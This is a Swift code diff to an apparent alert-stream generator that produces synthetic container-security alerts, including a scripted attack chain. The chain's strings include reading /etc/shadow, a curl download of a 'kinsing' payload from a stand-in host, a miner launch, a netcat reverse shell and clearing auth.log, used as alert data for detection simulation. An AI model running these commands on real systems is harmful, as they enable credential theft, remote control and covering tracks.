@@ -28,7 +28,7 @@ public struct AlertStream: Sequence, IteratorProtocol, Sendable {
     private var random: SplitMix
     private var made = 0
     private var time: Int64
-    private var burst: (rule: GeneratedRule, workload: Cluster.Workload, left: Int)?
+    private var burst: Burst?
     private var attack: [AttackChain.Step] = []
     private var victim: Cluster.Workload?
 
@@ -50,18 +50,29 @@ public struct AlertStream: Sequence, IteratorProtocol, Sendable {
         if let victim, !attack.isEmpty, random.onceIn(3) {
             advance(by: 0.4)
             let step = attack.removeFirst()
-            return AlertText.alert(GeneratedRule.named(step.rule), victim, time, command: step.command, file: step.file, &random)
+            return AlertText.alert(GeneratedRule.named(step.rule), victim, time, step.details, &random)
         }
         if let running = burst {
             advance(by: 0.02)
-            burst = running.left > 1 ? (running.rule, running.workload, running.left - 1) : nil
-            return AlertText.alert(running.rule, running.workload, time, &random)
+            burst = running.left > 1 ? running.shorter : nil
+            return AlertText.alert(running.rule, running.workload, time, running.details, &random)
         }
         advance(by: 1)
         let rule = weightedRule()
         let workload = random.pick(cluster.workloads)
-        if random.onceIn(40) { burst = (rule, workload, 5 + random.below(120)) }
-        return AlertText.alert(rule, workload, time, &random)
+        let details = AlertText.details(rule, &random)
+        if random.onceIn(40) { burst = Burst(rule: rule, workload: workload, details: details, left: 5 + random.below(120)) }
+        return AlertText.alert(rule, workload, time, details, &random)
+    }
+
+    /// One thing happening again and again in one place, differing only in process ids and ports.
+    private struct Burst: Sendable {
+        let rule: GeneratedRule
+        let workload: Cluster.Workload
+        let details: AlertText.Details
+        let left: Int
+
+        var shorter: Burst { Burst(rule: rule, workload: workload, details: details, left: left - 1) }
     }
 
     private mutating func advance(by share: Double) {
@@ -89,17 +100,21 @@ public struct AlertStream: Sequence, IteratorProtocol, Sendable {
 enum AttackChain {
     struct Step: Sendable {
         let rule: String
-        let command: String?
-        let file: String?
+        let details: AlertText.Details
+
+        init(_ rule: String, _ command: String = "", file: String = "") {
+            self.rule = rule
+            details = AlertText.Details(command: command, file: file)
+        }
     }
 
     static let steps: [Step] = [
-        Step(rule: "Attach/Exec Pod", command: nil, file: nil),
-        Step(rule: "Terminal shell in container", command: "bash -i", file: nil),
-        Step(rule: "Read sensitive file untrusted", command: "cat /etc/shadow", file: "/etc/shadow"),
-        Step(rule: "Unexpected outbound connection", command: "curl -s http://203.0.113.66/kinsing -o /tmp/.x/kinsing", file: nil),
-        Step(rule: "Drop and execute new binary in container", command: "/tmp/.x/kinsing --pool 203.0.113.66:3333", file: nil),
-        Step(rule: "Redirect STDOUT/STDIN to Network Connection in Container", command: nil, file: nil),
-        Step(rule: "Clear Log Activities", command: "truncate -s 0 /var/log/auth.log", file: "/var/log/auth.log"),
+        Step("Attach/Exec Pod"),
+        Step("Terminal shell in container", "bash -i"),
+        Step("Read sensitive file untrusted", "cat /etc/shadow", file: "/etc/shadow"),
+        Step("Unexpected outbound connection", "curl -s http://203.0.113.66/kinsing -o /tmp/.x/kinsing"),
+        Step("Drop and execute new binary in container", "/tmp/.x/kinsing --pool 203.0.113.66:3333"),
+        Step("Redirect STDOUT/STDIN to Network Connection in Container", "nc 203.0.113.66 4444 -e /bin/sh"),
+        Step("Clear Log Activities", "truncate -s 0 /var/log/auth.log", file: "/var/log/auth.log"),
     ]
 }
